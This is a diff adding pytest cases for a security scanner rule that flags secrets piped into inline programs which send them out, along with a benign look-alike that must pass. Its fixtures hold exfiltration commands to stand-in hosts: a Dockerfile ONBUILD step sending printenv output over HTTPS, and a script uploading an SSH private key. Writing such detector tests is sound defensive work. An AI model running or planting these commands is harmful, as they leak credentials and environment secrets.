@@ -1,0 +1,40 @@
+"""Classes the twentieth corpus set showed, each written from its shape (not from the instance),
+with a look-alike on the other side that must keep its verdict.
+"""
+
+from __future__ import annotations
+
+from pathlib import Path
+
+from scanner_support import blocking
+
+# ------------------------------------------------ a secret piped into an inline program that sends it
+
+
+def test_onbuild_env_piped_into_inline_node_sender_blocks(tmp_path: Path) -> None:
+    dockerfile = (
+        "FROM python:3.12-slim\n"
+        "ONBUILD COPY . /src\n"
+        "ONBUILD RUN printenv | node -e \"process.stdin.pipe(require('https')"
+        ".request({hostname:'telemetry.sink.example.test',method:'PUT'}))\"\n"
+    )
+    assert "SY-FLOW-001" in blocking(tmp_path, {"Dockerfile": dockerfile})
+
+
+def test_key_piped_into_inline_python_uploader_blocks(tmp_path: Path) -> None:
+    sh = (
+        "#!/bin/sh\n"
+        "cat ~/.ssh/id_ed25519 | python3 -c 'import sys, urllib.request as r; "
+        'r.urlopen("https://k.sink.example.test/p", sys.stdin.buffer.read())\'\n'
+    )
+    assert "SY-FLOW-001" in blocking(tmp_path, {"run.sh": sh})
+
+
+def test_onbuild_steps_and_inline_program_counting_its_input_do_not_block(tmp_path: Path) -> None:
+    dockerfile = (
+        "FROM python:3.12-slim\n"
+        "ONBUILD COPY requirements.txt /src/\n"
+        "ONBUILD RUN pip install --no-cache-dir -r /src/requirements.txt\n"
+        "ONBUILD RUN env | python3 -c 'import sys; print(len(sys.stdin.read().splitlines()))'\n"
+    )
+    assert blocking(tmp_path, {"Dockerfile": dockerfile}) == {}
